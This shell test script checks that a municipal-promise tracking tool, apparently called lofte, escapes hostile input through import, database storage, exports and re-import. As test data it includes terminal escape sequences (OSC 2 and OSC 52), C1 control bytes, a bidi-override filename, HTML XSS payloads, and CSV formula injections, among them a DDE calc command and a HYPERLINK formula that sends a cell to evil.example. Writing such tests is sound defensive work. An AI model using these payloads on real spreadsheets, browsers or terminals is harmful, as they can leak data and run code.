#!/bin/sh
# Hostile text through import, the database, every export, summary,
# search and a re-import (issue 7, part 3).  The inputs and what each
# must do are listed in tests/data/hostile/README; the terminal side is
# tests/tui/test_hostile_tui.sh.
. "$LOFTE_TOP/tests/lib.sh"

H="$LOFTE_TOP/tests/data/hostile"
cd "$T_TMP" || exit 1
export LOFTE_TODAY=2024-05-15

# check KIND FILE what: the export passes check-export.py's rules.
check() {
	if out=$(python3 "$H/check-export.py" "$1" "$2" 2>&1); then ok "$3"
	else not_ok "$3" "$out"; fi
}
# no_raw FILE what: the file has no ESC, no C1 CSI as UTF-8 and not
# inject.sql's raw 8-bit CSI (0x9B alone is part of "␛", U+241B).
no_raw() {
	if LC_ALL=C grep -q -e "$(printf '\033')" -e "$(printf '\302\233')" -e "$(printf 'Z\2332J')" "$1"; then
		not_ok "$2" "$(LC_ALL=C grep -n -e "$(printf '\033')" -e "$(printf '\302\233')" -e "$(printf 'Z\2332J')" "$1" | head -n 3 | od -c | head -n 5)"
	else ok "$2"; fi
}
# stored EXPR FILE what: the value of EXPR holds, byte for byte, the
# contents of FILE (a printf'd expectation).
stored() {
	got=$(sqlite3 h.db "SELECT hex(CAST($1 AS BLOB))")
	want=$(od -An -v -tx1 "$2" | tr -d ' \n' | tr a-f A-F)
	case $got in *"$want"*) ok "$3" ;; *) not_ok "$3" "want $want" "in   $got" ;; esac
}

have_python=1
command -v python3 >/dev/null 2>&1 || have_python=0
checks() { # KIND FILE what
	if [ "$have_python" -eq 1 ]; then check "$@"
	else echo "ok $((T_N += 1)) - $3 # SKIP python3 is not installed"; fi
}

# --- import: accepted and stored byte for byte -------------------------------
sh "$H/hostile-doc.sh" > hostile.md
run "$LOFTE" import -d h.db hostile.md
expect_status 0 "the hostile document imports"
printf 'Rubrik \033]2;PWNED-TITLE\007 slut' > want
stored "(SELECT title FROM commitment WHERE id = 1)" want "an OSC 2 title is stored as written"
printf 'OSC52 Q\033]52;c;UFdORUQ=\007Q slut\n' > want
stored "(SELECT text FROM followup WHERE id = 1)" want "an OSC 52 text is stored as written"
printf 'C1 Q\302\205\302\233\302\235\302\237Q slut' > want
stored "(SELECT text FROM followup WHERE id = 1)" want "C1 controls (as UTF-8) are stored as written"
printf 'Bidi \342\200\256gnp.exe\342\200\254 slut' > want
stored "(SELECT title FROM commitment WHERE position = 5)" want "a bidi override is stored as written"
printf '# Falskt löfte\n## 2. Falsk aktivitet\n### Tertial 3\n' > want
stored "(SELECT text FROM followup WHERE id = 2)" want "escaped headings in a text are stored without the backslash"
[ "$(sqlite3 h.db "SELECT count(*) FROM commitment")" = 8 ] && ok "imitated headings in texts add no activity" || not_ok "imitated headings add no activity" "$(sqlite3 h.db "SELECT position, title FROM commitment")"

# The report line quotes the municipality: shown, never sent raw.
printf '# T\n\nKommun: K\033]2;PWNED\007\nÅr: 2024\n' > osc-kommun.md
run "$LOFTE" import -d k.db osc-kommun.md
expect_status 0 "a municipality with OSC 2 imports"
case $T_OUT in *"$(printf '\033')"*) not_ok "the import report shows the municipality safely" "$T_OUT" ;;
*"K␛]2;PWNED␇ 2024: created"*) ok "the import report shows the municipality safely" ;;
*) not_ok "the import report shows the municipality safely" "$T_OUT" ;; esac

# --- import: refused with FILE:LINE, nothing written -------------------------
refuse() { # FILE PATTERN what
	rm -f r.db
	"$LOFTE" init -d r.db >/dev/null
	before=$(sqlite3 r.db "SELECT count(*) FROM promise")
	run "$LOFTE" import -d r.db "$1"
	expect_status 1 "$3: refused"
	expect_err_line "$2" "$3: one line with file and line"
	case $T_ERR in *"$(printf '\033')"*) not_ok "$3: the error shows no raw ESC" "$T_ERR" ;;
	*) ok "$3: the error shows no raw ESC" ;; esac
	[ "$(sqlite3 r.db "SELECT count(*) FROM promise")" = "$before" ] && ok "$3: nothing written" || not_ok "$3: nothing written"
}
doc_head='# T\n\nKommun: K\nÅr: 2024\n\n## 1. A\n\nAnsvariga: P\n\n### Tertial 1\n\nStatus: Pågår\n\n'
printf "${doc_head}"'ok \303( fel\n' > badutf8.md
refuse badutf8.md 'badutf8.md:14: invalid UTF-8 \(byte 0xC3 at column 4\)' "invalid UTF-8"
printf "${doc_head}"'ok \233[2J fel\n' > c1byte.md
refuse c1byte.md 'c1byte.md:14: invalid UTF-8 \(byte 0x9B at column 4\)' "a raw 8-bit C1 byte"
printf "${doc_head}"'ok \000 fel\n' > nul.md
refuse nul.md 'nul.md:14: NUL byte at column 4' "a NUL byte"
printf "${doc_head}"'Text\n# Falskt löfte\n' > fakehead.md
refuse fakehead.md 'fakehead.md:15: missing "Kommun:" line' "an unescaped heading in a text"
printf "${doc_head}"'#hashtag\n' > hashtag.md
refuse hashtag.md "hashtag.md:14: a line that starts with '#' must be a heading" "a # without a space"
printf '# T\n\nKommun: K\nÅr: 2024\n\n## 1. A\n\nAnsvariga: P\n\n### Tertial 1\n\nStatus: Pågår\033]2;PWNED\007\n' > oscstatus.md
refuse oscstatus.md 'oscstatus.md:12: Status: "Pågår␛\]2;PWNED␇" is not a status' "OSC 2 in a field value"

# --- another program's bytes in the database ----------------------------------
cp h.db i.db
sqlite3 i.db < "$H/inject.sql" && ok "inject.sql writes the database" || not_ok "inject.sql writes the database"

# --- exports -------------------------------------------------------------------
for db in h i; do
	for f in html txt csv json; do
		run "$LOFTE" export -d $db.db -f $f -o $db.$f
		expect_status 0 "$db.db: export -f $f"
	done
	run "$LOFTE" export -d $db.db -f json --history -o $db.history.json
	expect_status 0 "$db.db: export -f json --history"
	"$LOFTE" summary -d $db.db > $db.summary
	"$LOFTE" summary -d $db.db -f csv > $db.summary.csv
	"$LOFTE" search -d $db.db slut > $db.search
	[ "$(grep -c . $db.search)" -ge 5 ] && ok "$db.db: search finds the hostile texts" || not_ok "$db.db: search finds the hostile texts" "$(cat $db.search)"
	checks html $db.html "$db.db: HTML is inert, valid UTF-8, no control characters"
	checks terminal $db.txt "$db.db: plain text has no byte a terminal acts on"
	checks csv $db.csv "$db.db: no CSV cell can become a formula; no control characters"
	checks csv $db.summary.csv "$db.db: summary -f csv: no cell can become a formula"
	checks json $db.json "$db.db: JSON parses, strict UTF-8, controls escaped"
	checks json $db.history.json "$db.db: JSON with history parses, controls escaped"
	checks terminal $db.summary "$db.db: summary has no byte a terminal acts on"
	checks terminal $db.search "$db.db: search has no byte a terminal acts on"
	for f in html txt csv json history.json summary summary.csv search; do
		no_raw $db.$f "$db.db: $f has no ESC and no CSI byte"
	done
done

# What the exports say instead.
grep -q '<li>&lt;script&gt;alert(&quot;t&quot;)&lt;/script&gt; &quot;&gt;&lt;img src=x onerror=alert(1)&gt;' h.html && ok "HTML escapes a <script> title and its quotes" || not_ok "HTML escapes a <script> title"
grep -q '&#39; onfocus=&#39;alert(6)&#39;' h.html && ok "HTML escapes single quotes" || not_ok "HTML escapes single quotes"
grep -q '&amp;lt;redan&amp;gt;' h.html && ok "HTML escapes an entity written as text" || not_ok "HTML escapes an entity written as text"
grep -q 'OSC52 Q␛\]52;c;UFdORUQ=␇Q slut' h.txt && ok "txt shows OSC 52 as symbols" || not_ok "txt shows OSC 52 as symbols"
grep -q "'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"Klicka\"\")" h.csv && ok "CSV: a =HYPERLINK title is text" || not_ok "CSV: a =HYPERLINK title is text"
grep -q "^\"'=cmd|' /C calc'!A0 <b>\"\|^'=cmd|' /C calc'!A0 <b>," h.csv && ok "CSV: a formula municipality is text" || not_ok "CSV: a formula municipality is text" "$(grep -a cmd h.csv | head -n 2)"
grep -q ",\"'@SUM(1+1); +46 10 123; -minus\"\|,'@SUM(1+1); +46 10 123; -minus," h.csv && ok "CSV: a formula name in Ansvariga is text" || not_ok "CSV: a formula name in Ansvariga is text" "$(grep -a SUM h.csv | head -n 2)"
grep -q "Namn␛\]2;PWNED-NAME␇" i.csv && ok "CSV: a name with OSC 2 (from the database) is shown" || not_ok "CSV: a name with OSC 2 is shown"
if [ "$have_python" -eq 1 ]; then
	got=$(python3 -c 'import json,sys; d=json.load(open(sys.argv[1])); print(repr(d["promises"][1]["commitments"][0]["followups"][0]["text"][:31]))' h.json 2>&1)
	[ "$got" = "'OSC52 Q\\x1b]52;c;UFdORUQ=\\x07Q slut\\nO'" ] && ok "JSON gives the exact text back" || not_ok "JSON gives the exact text back" "$got"
	got=$(python3 -c 'import json,sys; d=json.load(open(sys.argv[1])); f=d["promises"][1]["commitments"][0]["followups"][0]; print(repr(f["department"]), repr(f["history"][0]["updated_by"]))' i.history.json 2>&1)
	[ "$got" = "'Avd  \\x9b31m' 'root'" ] || [ "${got%% *}" = "'Avd" ] && ok "JSON escapes a C1 byte in a name and keeps it" || not_ok "JSON escapes a C1 byte in a name and keeps it" "$got"
fi

# --- re-import: exactly what was stored ---------------------------------------
for db in h i; do
	"$LOFTE" export -d $db.db -f md -o $db.md
	checks utf8 $db.md "$db.db: md export is valid UTF-8"
	rm -f re-$db.db
	run "$LOFTE" import -d re-$db.db $db.md
	expect_status 0 "$db.db: the md export imports"
	"$LOFTE" export -d re-$db.db -f md -o re-$db.md
	expect_same $db.md re-$db.md "$db.db: export, import, export gives the same document"
done
# Every text, title and name the import stored is stored again the same.
texts="SELECT hex(c.title), hex(c.description), hex(coalesce(f.text, '')), hex(coalesce(f.review_comment, '')), hex(c.responsible)
 FROM commitment c JOIN promise p ON p.id = c.promise_id LEFT JOIN followup f ON f.commitment_id = c.id
 ORDER BY p.municipality, c.position, f.tertial"
sqlite3 h.db "$texts" > h.texts
sqlite3 re-h.db "$texts" > re-h.texts
expect_same h.texts re-h.texts "a re-import stores every text byte for byte as the first import did"
sqlite3 h.db "SELECT hex(title), hex(municipality), hex(description), hex(parties) FROM promise ORDER BY municipality" > h.p
sqlite3 re-h.db "SELECT hex(title), hex(municipality), hex(description), hex(parties) FROM promise ORDER BY municipality" > re-h.p
expect_same h.p re-h.p "a re-import stores the promises' titles and names byte for byte"
# What the database held that a document cannot: shown how it came back.
grep -q '^## 4\. Radbrytning ## 9\. Falsk rubrik$' i.md && ok "md: a line break in a title cannot start a heading" || not_ok "md: a line break in a title cannot start a heading" "$(grep -n Radbrytning i.md)"
grep -q '^Kommentar: rad ett ### Tertial 3 Status: Genomförd$' i.md && ok "md: a line break in a comment cannot start a heading" || not_ok "md: a line break in a comment cannot start a heading"
grep -q '^INVALID Z�(Z � Z��Z C-1BYTE Z�2JZ CR AZ$' i.md && ok "md: invalid bytes become U+FFFD, a CR a line break, nothing after a NUL" || not_ok "md: invalid bytes become U+FFFD" "$(grep -a -n INVALID i.md)"
[ "$(sqlite3 re-i.db "SELECT count(*) FROM commitment")" = 8 ] && ok "md: the re-import has the same activities" || not_ok "md: the re-import has the same activities"

# --- a 1 MB line ------------------------------------------------------------------
{
	printf '# Lång\n\nKommun: Långa kommunen\nÅr: 2024\n\n## 1. Lång rad\n\nAnsvariga: P\n\n### Tertial 1\n\nStatus: Pågår\n\nSTARTMARKÖR '
	head -c 1048576 /dev/zero | tr '\0' 'x'
	printf ' SLUTMARKÖR\n'
} > long.md
run "$LOFTE" import -d long.db long.md
expect_status 0 "a 1 MB line imports"
[ "$(sqlite3 long.db "SELECT length(text) FROM followup")" = 1048599 ] && ok "the 1 MB line is stored whole" || not_ok "the 1 MB line is stored whole" "$(sqlite3 long.db "SELECT length(text) FROM followup")"
"$LOFTE" export -d long.db -f md -o long-out.md
expect_same long.md long-out.md "the 1 MB line comes back exactly in md"
for f in html txt csv json; do
	run "$LOFTE" export -d long.db -f $f -o long.$f
	expect_status 0 "the 1 MB line exports as $f"
	grep -q 'xxxxxxxxxx SLUTMARKÖR' long.$f && ok "the 1 MB line is whole in $f" || not_ok "the 1 MB line is whole in $f"
done
